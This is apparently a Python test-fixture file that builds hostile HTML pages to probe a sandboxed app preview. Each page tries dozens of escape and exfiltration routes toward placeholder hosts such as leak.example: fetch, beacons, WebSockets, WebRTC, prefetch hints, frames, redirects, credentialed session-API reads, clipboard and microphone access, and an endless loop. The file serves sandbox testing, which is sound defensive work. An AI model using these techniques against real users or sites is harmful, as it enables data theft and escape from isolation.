"""Apps that want out: each tries many ways, and tells its parent what became of them."""

HEAD = """<!doctype html><html><head><title>hostile</title>
<meta http-equiv="x-dns-prefetch-control" content="on">
<link rel="dns-prefetch" href="http://dns-prefetch.leak.example/">
<link rel="preconnect" href="http://preconnect.leak.example/">
<link rel="preconnect" href="PRECONNECT/">
<link rel="prefetch" href="EVIL/prefetch"><link rel="preload" as="script" href="EVIL/preload.js">
<link rel="modulepreload" href="EVIL/modulepreload.js"><link rel="prerender" href="EVIL/prerender">
<link rel="stylesheet" href="EVIL/style.css"><link rel="icon" href="EVIL/icon.png"><link rel="manifest" href="EVIL/m.json">
<script type="speculationrules">{"prefetch":[{"source":"list","urls":["EVIL/speculation"]}]}</script>
<style>@import url("EVIL/import.css"); @font-face { font-family: f; src: url("EVIL/font.woff2"); }
body { background: url("EVIL/background.png"); font-family: f; }</style>
</head><body>text
<img src="EVIL/image.png"><script src="EVIL/script.js"></script><iframe src="EVIL/frame.html"></iframe>
<object data="EVIL/object"></object><embed src="EVIL/embed"><video src="EVIL/video" autoplay></video><audio src="EVIL/audio" autoplay></audio>
<svg><image href="EVIL/svg.png"/><use href="EVIL/use.svg#a"/></svg><input type="image" src="EVIL/input.png">
<form id="form" action="EVIL/form" method="post"><input name="a" value="1"></form>
<a id="ping" href="#x" ping="EVIL/ping">x</a><a id="down" download href="EVIL/download">x</a>
<a id="blank" target="_blank" href="EVIL/blank">x</a><a id="top" target="_top" href="EVIL/top">x</a>
<script>
const told = {}
const soon = (what) => Promise.race([what, new Promise((resolve) => setTimeout(() => resolve('nothing'), 700))])
const attempt = async (name, what) => {
  try { told[name] = String(await soon(what())) } catch (error) { told[name] = `refused ${error.name || error}` }
}
const events = (target, good, bad) => new Promise((resolve, reject) => { target['on' + good] = () => resolve('reached'); target['on' + bad] = () => reject('error') })
const inside = (attribute, value) => async () => {
  const frame = document.createElement('iframe')
  if (attribute) frame[attribute] = value
  document.body.append(frame)
  await new Promise((resolve) => setTimeout(resolve, 150))
  return frame.contentWindow.document ? (frame.contentWindow.fetch ? 'window ' + await frame.contentWindow.fetch('EVIL/inside').then(() => 'reached') : 'no fetch') : 'nothing'
}
</script>
"""

WAYS = {
    "fetch": "() => fetch('EVIL/fetch', { mode: 'no-cors' }).then(() => 'reached')",
    "keepalive": "() => fetch('EVIL/keepalive', { mode: 'no-cors', keepalive: true }).then(() => 'reached')",
    "xhr": "() => { const one = new XMLHttpRequest(); one.open('GET', 'EVIL/xhr'); one.send(); return events(one, 'load', 'error') }",
    "beacon": "() => 'queued ' + navigator.sendBeacon('EVIL/beacon', 'x')",
    "socket": "() => events(new WebSocket('EVILWS/socket'), 'open', 'error')",
    "events": "() => events(new EventSource('EVIL/events'), 'open', 'error')",
    "transport": "() => new WebTransport('https://transport.leak.example/').ready.then(() => 'reached')",
    "image": "() => { const one = new Image(); one.src = 'EVIL/beacon.png'; return events(one, 'load', 'error') }",
    "module": "() => import('EVIL/module.js').then(() => 'reached')",
    "worker": "() => { const one = new Worker(URL.createObjectURL(new Blob(['fetch(\"EVIL/worker\")']))); return events(one, 'message', 'error') }",
    "service worker": "() => navigator.serviceWorker.register('sw.js').then(() => 'reached')",
    "storage": "() => { localStorage.setItem('a', '1'); return 'reached' }",
    "session storage": "() => { sessionStorage.setItem('a', '1'); return 'reached' }",
    "cookie": "() => { document.cookie = 'a=1'; return document.cookie ? 'reached' : 'empty' }",
    "database": "() => events(indexedDB.open('a'), 'success', 'error')",
    "caches": "() => caches.open('a').then(() => 'reached')",
    "parent": "() => parent.document.title",
    "parent's token": "() => parent.location.href",
    "top away": "() => { top.location = 'EVIL/top-away'; return 'asked' }",
    "popup": "() => window.open('EVIL/popup') ? 'reached' : 'none'",
    "blank popup": "() => window.open('') ? 'reached' : 'none'",
    "ping": "() => { document.getElementById('ping').click(); return 'asked' }",
    "blank link": "() => { document.getElementById('blank').click(); return 'asked' }",
    "top link": "() => { document.getElementById('top').click(); return 'asked' }",
    "page's API": "() => fetch('PAGE/api/sessions', { credentials: 'include' }).then((one) => one.text())",
    "another app": "() => fetch('OTHER').then((one) => one.text())",
    "another app's script": "() => { const one = document.createElement('script'); one.src = 'OTHERapp.js'; document.head.append(one); return events(one, 'load', 'error') }",
    "root of the preview": "() => fetch('/').then((one) => one.text())",
    "microphone": "() => navigator.mediaDevices.getUserMedia({ audio: true }).then(() => 'reached')",
    "clipboard": "() => navigator.clipboard.readText()",
    "place": "() => new Promise((yes, no) => navigator.geolocation.getCurrentPosition(() => yes('reached'), (error) => no(error)))",
    "notices": "() => Notification.requestPermission()",
    "full screen": "() => document.documentElement.requestFullscreen().then(() => 'reached')",
    "eval": "() => eval('\"reached\"')",
    "late preconnect": "() => { const one = document.createElement('link'); one.rel = 'preconnect'; one.href = 'LATE/'; document.head.append(one); return 'asked' }",
    "late name": "() => { const one = document.createElement('link'); one.rel = 'dns-prefetch'; one.href = 'http://late-name.leak.example/'; document.head.append(one); return 'asked' }",
    "blank frame": "inside()",
    "srcdoc frame": "inside('srcdoc', '<p>x</p>')",
    "data frame": "inside('src', 'data:text/html,<img src=EVIL/data.png>')",
    "script's frame": "inside('src', 'javascript:fetch(\"EVIL/js-frame\")')",
    "base": "() => { const one = document.createElement('base'); one.href = 'EVIL/'; document.head.prepend(one); const img = new Image(); img.src = 'base.png'; document.body.append(img); return document.baseURI.includes('EVIL') ? 'reached' : 'kept' }",
    "srcdoc that leaves": "inside('srcdoc', '<script>location = \"http://srcdoc.leak.example/\"<\\/script>')",
    "frame of a name": "inside('src', 'http://frame.leak.example/')",
    "picture that leaves": "inside('src', 'leaves.svg')",
    "calls": """async () => {
      const one = new RTCPeerConnection({ iceServers: [{ urls: 'stun:STUN' }, { urls: 'turn:TURN?transport=tcp', username: 'a', credential: 'b' }] })
      one.createDataChannel('a')
      const found = []
      one.onicecandidate = ({ candidate }) => candidate && found.push(candidate.candidate)
      await one.setLocalDescription(await one.createOffer())
      await new Promise((resolve) => setTimeout(resolve, 500))
      return found.length ? 'candidates' : 'none'
    }""",
}  # fmt: skip

TELLS = "parent.postMessage({ hostile: told }, '*')"


def reaching_out():
    """All ways at once that leave the app where it is."""
    tries = ",\n".join(f"attempt({name!r}, {way})" for name, way in WAYS.items())
    return f"{HEAD}<script>(async () => {{\nawait Promise.all([\n{tries}])\n{TELLS}\n}})()</script></body></html>"


def leaving(how):
    """It tells that it lives, and leaves for another address."""
    link = '<a id="link" href="WHERE">x</a><a id="down" download href="WHERE">x</a><form id="form" method="post" action="WHERE"></form>'
    return f"<!doctype html>{link}<script>const told = {{}}; {TELLS}; setTimeout(() => {{ {how} }}, 100)</script>"


LEAVING = {
    "by its location": "location = 'WHERE'",
    "by replacing it": "location.replace('WHERE')",
    "by a link": "document.getElementById('link').click()",
    "by a download": "document.getElementById('down').click()",
    "by a form": "document.getElementById('form').submit()",
    "by a form and a link at once": "document.getElementById('form').submit(); location = '#x'",
    "by opening itself": "open('WHERE', '_self')",
}


def refreshing():
    """It leaves without any script."""
    return (
        '<!doctype html><meta http-equiv="refresh" content="0; url=EVIL/refresh">'
        f"<script>const told = {{}}; setTimeout(() => {TELLS}, 600)</script>"
    )


def calling():
    """A frame within it, where the calls were not taken away, calls out. Whoever holds it may end its process for that."""
    inner = "<script>const one = new RTCPeerConnection({ iceServers: [{ urls: 'stun:STUN' }] }); one.createDataChannel('a'); one.createOffer().then((offer) => one.setLocalDescription(offer))<\\/script>"
    return f'<!doctype html><script>const told = {{}}; const one = document.createElement("iframe"); one.srcdoc = "{inner}"; document.documentElement.append(one); {TELLS}</script>'


LEAVES = (
    "<svg xmlns='http://www.w3.org/2000/svg'><script>location = 'http://svg.leak.example/'</script></svg>"
)
GOOD = {
    "index.html": """<!doctype html><html lang="en"><head><link rel="stylesheet" href="style.css"></head><body><p id="p">x</p>
<img id="img" src="art/a.svg" alt=""><form id="form"><button>x</button></form>
<script src="plain.js"></script><script type="module" src="app.js"></script></body></html>""",
    "style.css": "p { color: rgb(1, 2, 3); } body { background: url('art/a.svg'); }",
    "plain.js": "window.plain = 'runs'\n",
    "app.js": """import { a } from './lib/a.js'
const data = await fetch('data.json').then((one) => one.json())
let sent = 'no'
document.getElementById('form').addEventListener('submit', (event) => { event.preventDefault(); sent = 'heard' })
document.getElementById('form').requestSubmit()
parent.postMessage({ hostile: {
  mode: document.compatMode, lang: document.documentElement.lang, plain: window.plain, module: a, data: data.a, sent,
  style: getComputedStyle(document.getElementById('p')).color, image: document.getElementById('img').naturalWidth > 0,
} }, '*')
""",
    "lib/a.js": "export const a = 'imported'\n",
    "data.json": '{"a": "fetched"}',
    "art/a.svg": "<svg xmlns='http://www.w3.org/2000/svg' width='4' height='4'><rect width='4' height='4'/></svg>",
}


def endless():
    """It never gives the processor back."""
    return "<!doctype html><p>x</p><script>for (;;) {}</script>"
